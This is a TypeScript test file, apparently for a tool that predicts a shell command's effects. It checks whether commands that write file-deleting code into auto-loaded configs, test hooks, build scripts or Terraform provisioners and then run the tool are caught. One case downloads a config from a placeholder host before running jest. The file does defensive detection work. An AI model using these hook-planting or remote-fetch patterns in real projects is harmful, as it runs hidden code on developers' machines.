import { describe, expect, test } from 'vitest'
import { exampleEffects } from '../testing/example.ts'

const JS = `echo 'require("fs").unlinkSync("a")' >`
const PYTHON = `echo 'import os; os.remove("a")' >`
const RUBY = `echo 'File.delete("a")' >`
const GONE = 'file delete a'

describe('what a tool finds by itself, where the action wrote it', () => {
  test.each([
    `${JS} jest.config.js; npx jest`,
    `${JS} test/x.test.js; npx jest`,
    `${JS} test/x.js; node --test test/`,
    `${JS} e2e/x.ts; npx playwright test`,
    `${JS} .eslintrc.cjs; eslint .`,
    `${JS} packages/a/vite.config.ts; cd packages/a; npx vite build`,
    `${JS} webpack.config.js; cd src; npx webpack`,
    `${PYTHON} tests/conftest.py; pytest tests`,
    `${PYTHON} sitecustomize.py; PYTHONPATH=. pytest`,
    `${PYTHON} setup.py; pip install -e .`,
    `${PYTHON} SConstruct; scons`,
    `${RUBY} spec/x_spec.rb; rspec`,
    `${RUBY} Gemfile; bundle install`,
    `${RUBY} config.ru; rackup`,
    `printf '<?php unlink("a");' > tests/XTest.php; vendor/bin/phpunit`,
    `printf 'os.Remove("a")' > x_test.go; go test ./...`,
    `printf 'exec.Command("rm", "a")' > main.go; go run .`,
    `printf 'fs::remove_file("a")' > build.rs; cargo build`,
    `printf 'Command::new("rm").arg("-f").arg("a")' > build.rs; cargo check`,
    `printf '@test "x" {\n  rm a\n}\n' > test/x.bats; bats test`,
    `cp /tmp/x jest.config.js; ${JS} jest.config.js; npx jest`,
    `${JS} /tmp/x.mjs; npx eslint -c /tmp/x.mjs src`,
    `${JS} /tmp/x.mjs; npx vitest run --config=/tmp/x.mjs`,
    `${JS} /tmp/x.mjs; npx prettier --plugin /tmp/x.mjs --check src`,
    `${JS} /tmp/x.cjs; npx mocha -r /tmp/x.cjs`,
    `printf 'provisioner "local-exec" { command = "rm a" }' > x.tf; terraform apply`,
    `printf 'data "external" "x" { program = ["rm", "a"] }' > x.tf; terraform plan`,
  ])('%s', async (command) => expect(await exampleEffects(command)).toContain(GONE))
})

describe('what no tool finds, or nobody runs', () => {
  test.each([
    `${JS} src/clean.js; npx jest`,
    `${JS} jest.config.js; npx prettier --version`,
    `${JS} /tmp/x.mjs; npx prettier -c /tmp/x.mjs`,
    `${JS} src/clean.js; npx eslint --fix src/clean.js`,
    `printf 'command = "rm a"' > x.tf; terraform apply`,
    `printf 'provisioner "local-exec" { command = "rm a" }' > x.tf; terraform validate`,
    `${JS} jest.config.js; cat jest.config.js`,
    `${JS} /tmp/x/jest.config.js; npx jest`,
    `${JS} test/x.js; node src/index.js`,
    `${PYTHON} app.py; pytest`,
    `${RUBY} app.rb; rspec`,
    `printf 'os.Remove(f.Name())' > x_test.go; go test ./...`,
    `printf 'os.Remove("a")' > x.go; go vet ./...`,
    `printf 'fs::remove_file(path)' > build.rs; cargo build`,
  ])('%s', async (command) => expect(await exampleEffects(command)).not.toContain(GONE))
})

test('what it found came from the network', async () => {
  const fetched = 'curl -so jest.config.js https://x.example/j.js; npx jest'
  expect(await exampleEffects(fetched)).toContain('remote-code run code')
  expect(await exampleEffects('curl -so a.json https://x.example/a.json; npx jest')).not.toContain(
    'remote-code run code',
  )
})
